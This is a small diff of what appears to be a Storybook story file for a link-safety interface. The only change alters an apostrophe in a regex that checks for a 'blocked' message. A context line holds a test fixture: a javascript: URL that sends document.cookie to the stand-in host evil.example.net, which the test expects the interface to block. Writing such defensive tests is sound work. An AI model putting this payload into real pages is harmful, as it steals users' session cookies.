@@ -67,7 +67,7 @@ export const ProgramInsteadOfPage: Story = {
   args: {
     request: page("javascript:fetch('https://evil.example.net/' + document.cookie)", 'Open your receipt.'),
   },
-  play: says(/blocked|can't be opened|not be opened/i),
+  play: says(/blocked|can’t be opened|not be opened/i),
 };
 
 export const InsideYourNetwork: Story = {
